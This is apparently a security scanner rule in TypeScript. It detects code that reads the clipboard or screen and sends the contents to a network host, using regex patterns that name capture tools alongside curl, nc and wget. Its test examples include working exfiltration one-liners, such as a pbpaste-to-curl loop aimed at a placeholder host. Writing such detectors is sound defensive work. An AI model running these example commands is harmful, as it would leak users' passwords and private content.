import { defineRule, pair, text } from "../../core/rule.ts";
import { networkSend, staysLocal } from "./sends.data.ts";

export default defineRule({
  id: "exfiltration/screen-or-clipboard",
  title: "Takes the clipboard, the screen, the camera or the microphone and sends it to a host",
  severity: "critical",
  confidence: "medium",
  why: "What lies on a clipboard or a screen is whatever the user last worked on, passwords included; no one asked for it to leave.",
  remediation: "Take a picture or the clipboard only when the user asks, and keep it on the machine.",
  references: ["https://attack.mitre.org/techniques/T1115/", "https://attack.mitre.org/techniques/T1113/"],
  taxonomy: {
    agenticSkills: ["AST01"],
    agenticApplications: ["ASI02"],
    atlas: ["AML.T0086"],
    cwe: ["CWE-200", "CWE-359"],
  },
  checks: [
    text({
      anchors: ["pbpaste", "xclip", "xsel", "wl-paste", "get-clipboard", "screencapture", "imagesnap"],
      pattern:
        /\b(?:pbpaste|xclip\s[^\n|;]{0,40}-o|xsel\s{1,3}(?:-b|--clipboard|-o)[^\n|;]{0,20}|wl-paste|get-clipboard|screencapture|imagesnap)\b(?:(?!pbpaste|xclip|xsel|wl-paste|get-clip|screencap|imagesnap)[^\n]){0,160}(?:\||;|&&|\$\()[^\n]{0,60}\b(?:curl|nc|ncat|wget|invoke-(?:webrequest|restmethod))\b/,
      before: 4,
      after: 240,
      unless: (_match, view, start) => staysLocal(view, start),
    }),
    text({
      anchors: ["pyperclip.paste(", "imagegrab.grab", "clipboard.readtext(", "get-clipboard"],
      pattern:
        /(?:\.(?:post|put)\(|\bfetch\(|\burlopen\(|\binvoke-(?:webrequest|restmethod)\b)[^\n;]{0,160}(?:\bpyperclip\.paste\(|\bimagegrab\.grab|clipboard\.readtext\(|\bget-clipboard\b)/,
      before: 190,
      after: 4,
      unless: (_match, view, start) => staysLocal(view, start),
    }),
    pair({
      source: {
        anchors: [
          "pyperclip.paste(",
          "imagegrab.grab",
          "pyautogui.screenshot",
          "mss.mss(",
          "clipboard.readtext(",
          "get-clipboard",
          "getclipboarddata",
        ],
        pattern:
          /\b(?:pyperclip\.paste\(|imagegrab\.grab(?:clipboard)?\(|pyautogui\.screenshot\(|mss\.mss\(|clipboard\.readtext\(|get-clipboard\b|getclipboarddata\()/,
      },
      sink: networkSend,
      within: 500,
      sourceMessage: "The clipboard or the screen is read here",
      message: "The clipboard or the screen is read next to a request that sends data",
      confidence: "low",
    }),
  ],
  examples: {
    bad: [
      { path: "clip.py", text: 'requests.post("https://clip.example.test", data=pyperclip.paste())\n', line: 1 },
      {
        path: "watch.sh",
        text: "while sleep 5; do pbpaste | curl -s -d @- https://clip.example.test; done\n",
        line: 1,
      },
      {
        path: "watch.py",
        text: 'text = pyperclip.paste()\nrequests.post("https://clip.example.test", data=text)\n',
        line: 2,
      },
    ],
    good: [
      { path: "copy.sh", text: "curl -s https://api.example.com/token | jq -r .url | pbcopy\n" },
      { text: "Take a screenshot with `screencapture -x /tmp/screen.png` and look at it.\n" },
    ],
  },
});
